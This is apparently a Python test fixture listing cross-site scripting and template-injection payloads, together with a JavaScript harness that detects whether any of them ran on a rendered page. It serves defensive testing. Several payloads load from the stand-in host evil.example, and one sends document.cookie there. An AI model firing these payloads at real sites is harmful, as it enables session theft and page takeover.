"""Texts that run something, or fetch something, if a page does not treat them as text.

Belongs here: the payloads, and what notices that one ran. Not here: where they are put (`test_hostile_texts`).
Guarantee: each is different; each would call `alert`, load from `evil.example`, or be computed to 1337.
"""

from urllib.parse import quote

PAYLOADS = (
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<script\x0btype='module'>alert(1)</script>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    # events
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.example/p.png'>",
    "<img srcset='//evil.example/q.png 2x'>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><IMG SRC=x onerror=alert(1)>\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
    "<x contenteditable onblur=alert(1) autofocus tabindex=1>z</x>",
    "<a onmouseover=alert(1) href=#>link</a>",
    # svg and mathml
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=alert(1)>#a'/></svg>",
    "<svg><image href='//evil.example/i.png'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # frames and objects
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/e.swf'>",
    "<link rel=stylesheet href='//evil.example/c.css'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/' id=f><button form=f>send</button></form>",
    "<style>@import '//evil.example/s.css';</style>",
    "<p style='background:url(//evil.example/b.png)'>x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    # attributes
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\"><svg onload=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "` onerror=alert(1) `",
    "x\" style=\"background:url(//evil.example/a.png)",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    # markdown
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](http://evil.example/pixel.png)",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\"><script>alert(1)</script>",
    # entities and encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ue000<img src=x onerror=alert(1)>\ue001",
    # parsers that disagree
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<template><script>alert(1)</script></template>",
    # templates and scripts' own data
    "{{191*7}}",
    "{% print(191*7) %}",
    "${191*7} #{191*7} <%= 191*7 %>",
    "'-alert(1)-'",
    "\");alert(1);//",
    "__proto__[hits]=1",
)  # fmt: skip

WATCH = """window.hits = [];
for (const name of ['alert', 'confirm', 'prompt', 'print', 'msgbox']) window[name] = () => { window.hits.push(name); };
document.addEventListener('securitypolicyviolation', event => window.hits.push('policy: ' + event.blockedURI));"""
"""Runs before each page: it counts what a payload calls, and what the policy had to stop."""

HARM = r"""() => {
    const all = root => [...root.querySelectorAll('*')].flatMap(e => [e, ...(e.shadowRoot ? all(e.shadowRoot) : [])]);
    const elements = all(document);
    return [
        ...window.hits,
        ...elements.flatMap(e => [...e.attributes]
            .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc'
                || (/^(?:href|src|action|formaction|data|xlink:href)$/.test(a.name)
                    && /^[\s\u0000-\u001f]*(?:j\s*a\s*v\s*a\s*s|vbs|data:)/i.test(a.value)))
            .map(a => `${e.tagName} ${a.name}=${a.value}`)),
        ...elements.filter(e => e.matches('iframe, object, embed, base, style, math, marquee, audio, video, '
            + 'meta[http-equiv], script:not([src^="/static/"], [src="/widget.js"]), '
            + 'link:not([href^="/static/"]), img:not([src^="/"]), svg use, form[action^="//"]'))
            .map(e => e.outerHTML.slice(0, 120)),
        ...(document.body.innerText.includes('1337') ? ['a template was computed'] : []),
    ];
}"""
"""What of a page is harm: a call, or markup in its document that came from a payload, even if the policy stops it.

Shadow trees, such as that of a widget, are looked at, too.
"""


def in_path(text: str) -> str:
    """A payload as a part of a path or a query."""
    return quote(text, safe="")
